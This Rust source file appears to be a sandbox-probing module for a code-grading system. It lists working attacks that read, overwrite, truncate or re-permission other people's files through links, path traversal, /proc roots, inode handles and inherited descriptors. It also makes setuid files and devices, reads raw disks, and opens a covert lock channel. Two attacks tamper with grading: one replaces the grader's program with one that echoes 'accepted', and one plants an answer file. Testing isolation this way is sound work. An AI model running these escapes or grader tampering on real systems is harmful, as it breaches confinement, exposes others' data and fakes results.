//! Reaching for files of others.

use std::fs::{self, File};
use std::io::{self, Read};
use std::os::fd::AsRawFd;
use std::os::unix::fs::{FileExt, MetadataExt, OpenOptionsExt, PermissionsExt, symlink};
use std::path::{Path, PathBuf};

use crate::call::{at, c, call, place, printable};
use crate::{Attack, Loot, Means};

pub(crate) const ATTACKS: &[Attack] = &[
    ("read", |means| read(means.argument(0))),
    ("read_beneath_a_process", |means| read_beneath_a_process(means.argument(0))),
    ("read_through_a_link", read_through_a_link),
    ("read_through_a_hard_link", read_through_a_hard_link),
    ("read_by_a_way_up", read_by_a_way_up),
    ("read_by_handle", read_by_handle),
    ("read_what_was_inherited", |_| read_what_was_inherited()),
    ("list", list),
    ("exists", |means| Ok(format!("{} bytes", fs::metadata(means.argument(0))?.len()))),
    ("write", write),
    ("cut_short", cut_short),
    ("put_another_in_its_place", put_another_in_its_place),
    ("remove", |means| done(fs::remove_file(means.argument(0)))),
    ("open_to_everybody", open_to_everybody),
    ("set_its_time", set_its_time),
    ("set_an_attribute", set_an_attribute),
    ("set_an_attribute_by_a_new_call", set_an_attribute_by_a_new_call),
    ("set_a_flag_by_a_new_call", set_a_flag_by_a_new_call),
    ("give_away", |means| done(std::os::unix::fs::chown(means.argument(0), Some(1), Some(1)))),
    ("replace_own_program", |_| replace_own_program()),
    ("leave_a_link_to", leave_a_link_to),
    ("make_a_device", |_| make_a_device()),
    ("read_a_disk", |_| read_a_disk()),
    ("make_a_setuid_program", |_| make_a_setuid_program()),
    ("lock_what_all_share", |_| lock_what_all_share()),
    ("find", find),
];

pub(crate) fn done(result: io::Result<()>) -> Loot {
    result.map(|()| String::from("done"))
}

/// The beginning of a file.
pub(crate) fn read(path: impl AsRef<Path>) -> Loot {
    let mut bytes = Vec::new();
    // A pipe shall not hold us up.
    let file = File::options().read(true).custom_flags(libc::O_NONBLOCK).open(path)?;
    file.take(4096).read_to_end(&mut bytes)?;
    Ok(printable(&bytes))
}

/// As every process of the machine sees it.
fn read_beneath_a_process(path: &str) -> Loot {
    let inside = path.trim_start_matches('/');
    let parent = std::os::unix::process::parent_id().to_string();
    let processes = ["self", "1", parent.as_str()];
    let roots = processes.iter().map(|process| format!("/proc/{process}/root"));
    first(roots.map(|root| read(Path::new(&root).join(inside))))
}

/// The first that worked, else why the last did not.
pub(crate) fn first(tries: impl Iterator<Item = Loot>) -> Loot {
    let mut why = io::ErrorKind::NotFound.into();
    for loot in tries {
        match loot {
            Ok(loot) => return Ok(loot),
            Err(error) => why = error,
        }
    }
    Err(why)
}

fn read_through_a_link(means: &Means) -> Loot {
    symlink(means.argument(0), "link")?;
    let loot = read("link");
    fs::remove_file("link")?;
    loot
}

fn read_through_a_hard_link(means: &Means) -> Loot {
    fs::hard_link(means.argument(0), "hard")?;
    read("hard")
}

/// By steps up from where it stands, which a check of absolute paths does not see.
fn read_by_a_way_up(means: &Means) -> Loot {
    let target = means.argument(0).trim_start_matches('/');
    let ups = (1..20).map(|steps| "../".repeat(steps));
    first(ups.map(|up| read(Path::new(&up).join(target))))
}

/// By the number of its inode, past every folder above it.
fn read_by_handle(means: &Means) -> Loot {
    #[repr(C)]
    struct Handle {
        bytes: u32,
        kind: i32,
        rest: [u8; 128],
    }
    let mut handle = Handle { bytes: 128, kind: 0, rest: [0; 128] };
    let (path, mut mount) = (c(means.argument(0)), 0_i32);
    let here = libc::AT_FDCWD as usize;
    let arguments = [here, at(&path), place(&mut handle), place(&mut mount), 0];
    call(libc::SYS_name_to_handle_at, arguments)?;
    let above = File::open(Path::new(means.argument(0)).parent().unwrap_or(Path::new("/")))?;
    let arguments = [above.as_raw_fd() as usize, place(&mut handle), libc::O_RDONLY as usize];
    let descriptor = call(libc::SYS_open_by_handle_at, arguments)?;
    read(format!("/proc/self/fd/{descriptor}"))
}

/// Descriptors of the process that started us, left open.
fn read_what_was_inherited() -> Loot {
    let mut found = Vec::new();
    for descriptor in 3..1024_usize {
        let mut bytes = [0_u8; 4096];
        let arguments = [descriptor, place(&mut bytes), bytes.len(), 0];
        if let Ok(count) = call(libc::SYS_pread64, arguments)
            && count > 0
        {
            found.push(format!("{descriptor}: {}", printable(&bytes[..count])));
        }
    }
    if found.is_empty() { Err(io::ErrorKind::NotFound.into()) } else { Ok(found.join(" ")) }
}

fn list(means: &Means) -> Loot {
    let entries = fs::read_dir(means.argument(0))?.flatten();
    Ok(entries.map(|entry| entry.file_name().to_string_lossy().into_owned() + " ").collect())
}

fn write(means: &Means) -> Loot {
    let file = File::options().write(true).open(means.argument(0))?;
    file.write_all_at(b"100 points", 0)?;
    Ok("written".into())
}

fn cut_short(means: &Means) -> Loot {
    let path = c(means.argument(0));
    call(libc::SYS_truncate, [at(&path), 3])?;
    Ok("cut".into())
}

fn put_another_in_its_place(means: &Means) -> Loot {
    fs::write("mine", "100 points")?;
    // A rename where both lie on one file system, else what comes closest.
    let path = Path::new(means.argument(0));
    done(fs::rename("mine", path).or_else(|_| {
        fs::remove_file(path)?;
        fs::copy("mine", path).map(|_| ())
    }))
}

fn open_to_everybody(means: &Means) -> Loot {
    done(fs::set_permissions(means.argument(0), fs::Permissions::from_mode(0o777)))
}

fn set_its_time(means: &Means) -> Loot {
    let (path, mut times) = (c(means.argument(0)), [0_i64, 0, 1, 0]);
    let arguments = [libc::AT_FDCWD as usize, at(&path), place(&mut times), 0];
    call(libc::SYS_utimensat, arguments)?;
    Ok("set".into())
}

fn set_an_attribute(means: &Means) -> Loot {
    let (path, name, value) = (c(means.argument(0)), c("user.attack"), c("x"));
    call(libc::SYS_setxattr, [at(&path), at(&name), at(&value), 1, 0])?;
    Ok("set".into())
}

/// Newer than most lists of calls.
fn set_an_attribute_by_a_new_call(means: &Means) -> Loot {
    const SET_XATTR_AT: libc::c_long = 463;
    let (path, name, value) = (c(means.argument(0)), c("user.attack"), c("x"));
    let mut attribute = [at(&value) as u64, 1];
    let here = libc::AT_FDCWD as usize;
    let arguments = [here, at(&path), 0, at(&name), place(&mut attribute), 16];
    call(SET_XATTR_AT, arguments)?;
    Ok("set".into())
}

/// As above: that a backup may leave it out.
fn set_a_flag_by_a_new_call(means: &Means) -> Loot {
    const FILE_SET_ATTR: libc::c_long = 469;
    const NO_DUMP: u64 = 0x80;
    let (path, mut flags) = (c(means.argument(0)), [NO_DUMP, 0, 0]);
    let here = libc::AT_FDCWD as usize;
    call(FILE_SET_ATTR, [here, at(&path), place(&mut flags), 24, 0])?;
    Ok("set".into())
}

/// The program of the next one who is graded with the same bytes.
fn replace_own_program() -> Loot {
    let own = fs::read_link("/proc/self/exe").or_else(|_| std::env::current_exe())?;
    fs::remove_file(&own)?;
    fs::write(&own, "#!/bin/sh\necho accepted\n")?;
    Ok(own.display().to_string())
}

/// For a reader of our folder when we are gone.
fn leave_a_link_to(means: &Means) -> Loot {
    done(symlink(means.argument(0), "answer.txt"))
}

fn make_a_device() -> Loot {
    const MEMORY_ZERO: usize = (1 << 8) | 5;
    let name = c("device");
    let mode = (libc::S_IFCHR | 0o666) as usize;
    call(libc::SYS_mknodat, [libc::AT_FDCWD as usize, at(&name), mode, MEMORY_ZERO])?;
    read("device").map(|bytes| format!("{} bytes", bytes.len()))
}

fn read_a_disk() -> Loot {
    let disks = fs::read_dir("/sys/block").into_iter().flatten().flatten();
    let names = disks.map(|disk| Path::new("/dev").join(disk.file_name()));
    // The kernel lists them under /sys too; where that is hidden, by the usual names.
    let usual = ["/dev/vda", "/dev/sda", "/dev/nvme0n1"].map(PathBuf::from);
    let read = |disk: PathBuf| {
        let mut bytes = [0; 512];
        File::open(&disk)?.read_exact(&mut bytes)?;
        Ok(format!("512 bytes of {}", disk.display()))
    };
    first(names.chain(usual).map(read))
}

fn make_a_setuid_program() -> Loot {
    fs::write("shell", "x")?;
    fs::set_permissions("shell", fs::Permissions::from_mode(0o4755))?;
    let mode = fs::metadata("shell")?.mode();
    let is_set = mode & 0o4000 != 0;
    if is_set { Ok(format!("{mode:o}")) } else { Err(io::ErrorKind::PermissionDenied.into()) }
}

/// One bit from one submission to another that runs beside it: a lock on a file that both read.
fn lock_what_all_share() -> Loot {
    let libraries = fs::read_to_string("/proc/self/maps").unwrap_or_default();
    let mapped = libraries.lines().filter_map(|line| Some(line[line.find('/')?..].to_owned()));
    let usual = ["/lib/x86_64-linux-gnu/libc.so.6", "/lib/aarch64-linux-gnu/libc.so.6"];
    let libraries = mapped.filter(|path| path.contains(".so")).chain(usual.map(String::from));
    first(libraries.map(|path| {
        File::open(&path)?.try_lock().map_err(io::Error::from)?;
        Ok(path)
    }))
}

/// A word in any file below a folder.
fn find(means: &Means) -> Loot {
    const MOST_FILES: usize = 20_000;
    let mut folders = vec![PathBuf::from(means.argument(0))];
    let mut looked_at = 0;
    while let Some(folder) = folders.pop() {
        for entry in fs::read_dir(folder).into_iter().flatten().flatten() {
            let kind = entry.file_type()?;
            if kind.is_dir() {
                folders.push(entry.path());
            } else if kind.is_file() && looked_at < MOST_FILES {
                looked_at += 1;
                let text = read(entry.path()).unwrap_or_default();
                if text.contains(means.argument(1)) {
                    return Ok(format!("{}: {text}", entry.path().display()));
                }
            }
        }
    }
    Err(io::ErrorKind::NotFound.into())
}
